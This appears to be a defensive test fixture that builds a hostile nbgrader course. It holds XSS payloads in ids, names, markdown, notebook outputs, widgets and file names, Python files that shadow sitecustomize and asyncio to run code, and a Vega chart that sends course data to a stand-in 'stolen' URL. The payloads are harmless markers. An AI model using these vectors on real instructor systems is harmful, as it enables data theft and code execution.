"""A class whose ids, names, files, prose, outputs and saved widgets try to run a script on the instructor's pages, or code on their machine.

Each script says `RAN` and a word on the browser's console; each piece of Python leaves a file of that name in the folder `ran`.
"""

from __future__ import annotations

import json
from importlib import metadata
from pathlib import Path

from tiny_course import RIGHT, Tiny, quiz_cells

SAY = "console.log('RAN {}')"
IDS = (
    f"<img src=x onerror={SAY.format('id-picture')}>",
    f'"><svg onload={SAY.format("id-svg")}>',
    f"';{SAY.format('id-quote')};'",
    f'\\";{SAY.format("id-backslash")}; "',
    f"x onmouseover={SAY.format('id-attribute')} autofocus onfocus={SAY.format('id-focus')}",
    f'&lt;img src=x onerror="{SAY.format("id-entity")}"&gt;',
)
PLAIN = "ada"
STOCK = "grace"  # hers was graded by stock nbgrader, which keeps what a notebook brings
NAME = f"</script><script>{SAY.format('name')}</script><img src=x onerror={SAY.format('name-picture')}>"
PROSE = f"""<script>{SAY.format("prose-script")}</script> <img src=x onerror="{SAY.format("prose-picture")}">
<svg><script>{SAY.format("prose-svg")}</script></svg> <iframe srcdoc="<script>{SAY.format("prose-frame")}</script>"></iframe>

[a](javascript:{SAY.format("prose-link")}) [b](java&#115;cript:{SAY.format("prose-entity")}) [c](/formgrader?path=/tmp) [d](page.html)
[e](https://example.org/) <a href="page.html" data-commandlinker-command="notebook:run-all-cells">f</a>

$\\href{{javascript:{SAY.format("prose-formula")}}}{{g}}$ $$\\unicode{{<img src=x onerror={SAY.format("prose-tex")}>}}$$
"""
PAGES = {
    "page.html": f"<!doctype html><script>{SAY.format('html')}</script>",
    "x.xhtm": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{SAY.format("xhtm")}</script></html>',
    "x.xpdl": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{SAY.format("xpdl")}</script></html>',
    "picture.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SAY.format("svg")}</script></svg>',
}
STOLEN = "http://127.0.0.1:9/stolen-"
CHART = {  # reads the course and tells it elsewhere; no script is needed for that
    "$schema": "https://vega.github.io/schema/vega/v5.json",
    "data": [{"name": "read", "url": "/api/contents/source/quiz", "format": {"type": "json", "property": "content"}}],
    "marks": [
        {
            "type": "image",
            "from": {"data": "read"},
            "encode": {
                "enter": {"url": {"signal": f"'{STOLEN}'+datum.name"}, "width": {"value": 9}, "height": {"value": 9}}
            },
        }
    ],
}
WORKSPACE = {"data": {"layout-restorer:data": {"main": {"dock": None}}}, "metadata": {"id": "hostile"}}
FILES = {
    "chart.vg.json": json.dumps(CHART),
    "x.jupyterlab-workspace": json.dumps(WORKSPACE),
    f"<img src=x onerror={SAY.format('file-name')}>.txt": "a name",
    "notes.md": PROSE,
}
VERSION = "~{}.{}.*".format(*metadata.version("anywidget").split("."))
MODEL = "0123456789abcdef0123456789abcdef"
ESM = f"{SAY.format('widget')}; export default {{ render({{ el }}) {{ el.textContent = 'drawn'; {SAY.format('widget-view')}; }} }};"


def widget_state() -> dict:
    """A saved widget that brings its own module, with the models that it refers to."""
    base = {"_view_count": None, "_model_module_version": "2.0.0", "_view_module_version": "2.0.0"}
    layout = {
        "model_name": "LayoutModel",
        "model_module": "@jupyter-widgets/base",
        "model_module_version": "2.0.0",
        "state": base,
    }
    state = {
        "_model_module": "anywidget",
        "_model_name": "AnyModel",
        "_model_module_version": VERSION,
        "_view_count": None,
    }
    state |= {"_view_module": "anywidget", "_view_name": "AnyView", "_view_module_version": VERSION}
    state |= {"_esm": ESM, "_anywidget_id": "hostile", "layout": "IPY_MODEL_layout"}
    widget = {"model_name": "AnyModel", "model_module": "anywidget", "model_module_version": VERSION, "state": state}
    return {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {MODEL: widget, "layout": layout},
        }
    }


def outputs() -> list[dict]:
    datas = (
        {
            "text/html": f"<script>{SAY.format('output-script')}</script><img src=x onerror={SAY.format('output-picture')}>"
        },
        {"application/javascript": SAY.format("output-javascript")},
        {"image/svg+xml": PAGES["picture.svg"]},
        {"text/latex": f"$\\href{{javascript:{SAY.format('output-formula')}}}{{x}}$"},
        {"text/markdown": PROSE},
        {
            "application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0, "model_id": MODEL},
            "text/plain": "a widget",
        },
        {"application/vnd.vega.v5+json": CHART, "text/plain": "a chart"},
    )
    return [{"output_type": "display_data", "metadata": {}, "data": data} for data in datas]


def hostile_notebook(path: Path) -> None:
    """Put all of it into a notebook's own prose, outputs and metadata."""
    notebook = json.loads(path.read_bytes())
    notebook["cells"][1]["source"] = PROSE
    notebook["cells"][2] |= {"outputs": outputs(), "source": "value = 2"}
    notebook["cells"].append(
        {"cell_type": "markdown", "id": "added", "metadata": {"trusted": True}, "source": f"# {PROSE}"}
    )
    notebook["cells"].append(
        {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": PAGES["page.html"]}
    )
    for cell in notebook["cells"]:
        cell["metadata"]["trusted"] = True
    notebook["metadata"]["widgets"] = widget_state()
    path.write_text(json.dumps(notebook), encoding="utf8")


def leaves(ran: Path, word: str) -> str:
    return f"import pathlib\npathlib.Path({str(ran)!r}, {word!r}).touch()\n"


def hostile_pages(folder: Path) -> None:
    """A notebook and pages that a browser would run, and files that JupyterLab acts on."""
    hostile_notebook(folder / "quiz.ipynb")
    for name, page in (PAGES | FILES).items():
        (folder / name).write_text(page, encoding="utf8")


def hostile_python(folder: Path, ran: Path, whose: str) -> None:
    """Python that a kernel or nbgrader would find."""
    (folder / "nbgrader_config.py").write_text(leaves(ran, f"config-{whose}"), encoding="utf8")
    for module in ("ipykernel_launcher", "sitecustomize", "asyncio", "IPython"):
        (folder / f"{module}.py").write_text(leaves(ran, f"kernel-{whose}"), encoding="utf8")


def make(folder: Path) -> Tiny:
    """The course, graded: learners with hostile ids, all with the same hostile name and hand-in, one of them graded as stock nbgrader does; and
    the same in the instructor's own folders `own` and `own-python`."""
    from nbgrader.api import Gradebook

    tiny = Tiny(folder)
    tiny.source(quiz_cells())
    tiny.generate()
    ran = folder.parent / "ran"
    ran.mkdir()
    for learner in (*IDS, PLAIN, STOCK):

        def edit(place: Path) -> None:
            hostile_pages(place)
            hostile_python(place, ran, "theirs")
            (place / ".ipynb_checkpoints").mkdir()
            (place / ".ipynb_checkpoints/quiz-checkpoint.ipynb").write_bytes((place / "quiz.ipynb").read_bytes())

        tiny.hand_in(learner, RIGHT, edit)
    with Gradebook(tiny.course.directory.db_url) as book:
        for learner in (*IDS, PLAIN, STOCK):
            book.update_or_create_student(learner, first_name=NAME, last_name=NAME, email=NAME)
    tiny.grade()
    graded_by_stock(folder)
    tiny.feedback()
    for name in ("own", "own-python"):
        (folder / name).mkdir()
    (folder / "own/quiz.ipynb").write_bytes((folder / "release/quiz/quiz.ipynb").read_bytes())
    hostile_pages(folder / "own")
    hostile_python(folder / "own-python", ran, "own")
    return tiny


def graded_by_stock(folder: Path) -> None:
    """What stock nbgrader leaves in `autograded`: the learner's own cells, outputs, metadata and files, with its marks."""
    there = folder / f"autograded/{STOCK}/quiz"
    ours, theirs = (
        json.loads((place / "quiz.ipynb").read_bytes()) for place in (there, folder / f"submitted/{STOCK}/quiz")
    )
    marks = {cell["id"]: cell["metadata"].get("nbgrader") for cell in ours["cells"] if "id" in cell}
    for cell in theirs["cells"]:
        if mark := marks.get(cell["id"]):
            cell["metadata"]["nbgrader"] = mark
    (there / "quiz.ipynb").write_text(json.dumps(theirs), encoding="utf8")
    for name, page in (PAGES | FILES).items():
        (there / name).write_text(page, encoding="utf8")
